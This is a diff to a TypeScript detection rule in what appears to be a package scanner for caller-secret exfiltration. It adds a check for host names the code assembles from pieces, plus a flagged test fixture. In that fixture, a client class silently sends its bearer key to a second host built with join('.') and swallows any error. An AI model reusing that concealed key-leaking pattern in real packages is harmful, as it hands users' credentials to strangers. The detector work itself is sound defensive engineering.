@@ -10,7 +10,7 @@ import type { Passed } from './behaviour/service.ts'
 import { findingsOf, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
 import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
 import { sameLine } from './behaviour/written.ts'
-import { hostClass } from './hosts/host-class.ts'
+import { hostClass, isLocal } from './hosts/host-class.ts'
 import { hostOf, registrableDomain } from './hosts/host.ts'
 import { opening, severityOf } from './finding.ts'
 
@@ -30,7 +30,7 @@ export const callerSecretExfiltration: Rule = {
       'A program hands the package a key or a recovery phrase to work with, and the package sends it to a host that is ' +
       'neither the service’s nor its own. A private key or recovery phrase never has to leave the machine; an API key ' +
       'goes to the service it is for, and to nobody else: who gets it beside that service, beside another client it was ' +
-      'given to, or beside the server it signs in to, is a stranger. No service takes a password or a recovery phrase in the ' +
+      'given to, or beside the server it signs in to, is a stranger, and so is a host whose name the code puts together. No service takes a password or a recovery phrase in the ' +
       'address of a picture, in a name that is looked up, in a datagram or in a beacon that gets no answer. An object that is known to hold ' +
       'such a secret, because the package reads it there, goes astray as the secret would, and so do the headers of ' +
       'requests that a hook sees, or what was put in the place of fetch. Also: anything its caller passes that ends in a mailbox ' +
@@ -48,6 +48,17 @@ export const callerSecretExfiltration: Rule = {
     ],
     examples: {
       flags: [
+        {
+          title: 'a client that signs in at a second host whose name it puts together',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              'class Transport {\n  constructor(key) { this.key = key }\n' +
+              "  send(path, host = 'api.parcels.example') { return fetch('https://' + host + path, { headers: { authorization: 'Bearer ' + this.key } }) }\n" +
+              "  call(path) { this.send('/health', ['api', 'parcel-status', 'invalid'].join('.')).catch(() => {}); return this.send(path) }\n" +
+              '}\nmodule.exports = Transport\n',
+          },
+        },
         {
           title: 'a private key posted besides being used',
           files: {
@@ -148,6 +159,7 @@ export const callerSecretExfiltration: Rule = {
       (chosen && isPassword(leak)) ||
       isForOtherClient(leak, inspection, connectors) ||
       isMoreThanSignsIn(leak, leaks, inspection, context) ||
+      isAssembledBeside(leak, inspection, context) ||
       signsInSomewhereElse(leak, inspection, context)
         ? 'ask'
         : undefined
@@ -305,6 +317,25 @@ function signsInSomewhereElse({ flow, place }: Leak, { flows }: Inspection, { li
   )
 }
 
+/**
+ * A host whose name the code puts together, beside one that is written down: the first is not for those who read it. One
+ * service alone may have its hosts in a table.
+ */
+function isAssembledBeside({ flow, place }: Leak, { flows }: Inspection, { lists }: Context): boolean {
+  const { assembled = [] } = flow.sink
+  if (!flow.certain || !assembled.some(text => hostOf(text)?.name === place.host?.name)) return false
+  const domain = place.host === undefined ? '' : registrableDomain(place.host, lists.hosts)
+  return flows.some(
+    ({ source, sink }) =>
+      (source.kind === 'caller' || source.kind === 'caller-secret') &&
+      sink.kind === 'network' &&
+      sink.destinations.some(text => {
+        const host = sink.assembled?.includes(text) === true ? undefined : hostOf(text)
+        return host !== undefined && !isLocal(host) && registrableDomain(host, lists.hosts) !== domain
+      }),
+  )
+}
+
 /** Places from which data leaves for one host, from which on that host is what the package is a client of. */
 const manySources = 8
 
@@ -415,12 +446,15 @@ function keepsToItself({ sink }: Flow, { host }: Place, { lists }: Context): boo
 function say(group: SightingGroup): string {
   const [{ flow, place }] = group
   const shown = place.host?.shown ?? 'a computed destination'
+  const assembled = (flow.sink.assembled ?? []).some(text => hostOf(text)?.name === place.host?.name)
+    ? ' and whose name the code puts together'
+    : ''
   const harm = group.every(({ flow: { source } }) => source.kind === 'caller')
     ? 'Whoever owns that host sees what you use it for. Do not hand it anything that is not public.'
     : 'Whoever owns that host can then act in the caller’s name. Do not give this package a key; replace any it has seen.'
   return (
     `${opening(flow)} takes ${sourcesInWords(group)} and sends that to ${shown}, ` +
-    `${placeInWords(place)}${guardsInWords(flow.guards)}. ` +
+    `${placeInWords(place)}${assembled}${guardsInWords(flow.guards)}. ` +
     harm
   )
 }
